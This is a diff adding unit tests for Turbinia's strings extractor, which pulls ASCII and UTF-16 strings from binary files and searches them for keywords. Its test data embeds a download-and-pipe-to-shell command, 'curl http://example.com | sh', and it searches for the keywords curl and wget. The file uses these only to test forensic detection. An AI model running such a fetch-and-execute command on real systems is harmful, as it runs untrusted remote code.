@@ -0,0 +1,102 @@
+# -*- coding: utf-8 -*-
+# Copyright 2020 Google Inc.
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+#      http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+"""Tests for the strings extractor."""
+
+from __future__ import unicode_literals
+
+import functools
+import io
+import os
+import shutil
+import tempfile
+import unittest
+
+from turbinia.lib import strings_extractor
+
+
+class StringsExtractorTest(unittest.TestCase):
+  """Tests for the strings extractor."""
+
+  DATA = (
+      b'\x00\x01abc\x00abcd\x00\xffwith\ttab\n'
+      b'curl http://example.com | sh\x00\x00wget')
+
+  def setUp(self):
+    self.tmp_dir = tempfile.mkdtemp(prefix='turbinia-test-strings')
+    self.path = os.path.join(self.tmp_dir, 'data.bin')
+    with open(self.path, 'wb') as fh:
+      fh.write(self.DATA)
+
+  def tearDown(self):
+    shutil.rmtree(self.tmp_dir)
+
+  def testIterFileStrings(self):
+    """Tests strings are extracted with their offsets."""
+    self.assertEqual(
+        list(strings_extractor.iter_file_strings(
+            self.path)), [(6, b'abcd'), (12, b'with\ttab'),
+                          (21, b'curl http://example.com | sh'), (51, b'wget')])
+    regex = strings_extractor.get_ascii_regex(min_length=8)
+    self.assertEqual(
+        len(list(strings_extractor.iter_file_strings(self.path, regex))), 2)
+
+    empty_path = os.path.join(self.tmp_dir, 'empty')
+    open(empty_path, 'wb').close()
+    self.assertEqual(list(strings_extractor.iter_file_strings(empty_path)), [])
+
+  def testSearchFileStrings(self):
+    """Tests strings containing keywords are found."""
+    self.assertEqual(
+        strings_extractor.search_file_strings(self.path, [b'curl', b'wget']),
+        (4, ['curl http://example.com | sh', 'wget']))
+
+  def testMapFiles(self):
+    """Tests files are processed in order with and without a pool."""
+    paths = [self.path, self.path, self.path]
+    search_file = functools.partial(
+        strings_extractor.search_file_strings, keywords=[b'tab'])
+    expected = [(path, (4, ['with\ttab'])) for path in paths]
+    self.assertEqual(
+        list(strings_extractor.map_files(search_file, paths, processes=1)),
+        expected)
+    self.assertEqual(
+        list(
+            strings_extractor.map_files(
+                search_file, paths, processes=2, chunksize=1)), expected)
+
+  def testIterStrings(self):
+    """Tests ASCII and UTF-16LE strings are extracted in one pass."""
+    data = (
+        b'\x00abcdef\xffu\x00n\x00i\x00c\x00o\x00d\x00e\x00\xff' * 20 + b'end!')
+    expected = [(offset, 'ascii', 'abcdef') for offset in range(1, 460, 23)]
+    expected += [
+        (offset, 'utf-16-le', 'unicode') for offset in range(8, 460, 23)
+    ]
+    expected.append((460, 'ascii', 'end!'))
+    expected.sort()
+    self.assertEqual(
+        sorted(strings_extractor.iter_strings(io.BytesIO(data))), expected)
+    # Strings are kept whole over reads and byte ranges.
+    for block_size in (16, 17, 64):
+      strings = []
+      for start in range(0, len(data), 50):
+        strings.extend(
+            strings_extractor.iter_strings(
+                io.BytesIO(data), start, start + 50, block_size=block_size))
+      self.assertEqual(sorted(strings), expected)
+
+
+if __name__ == '__main__':
+  unittest.main()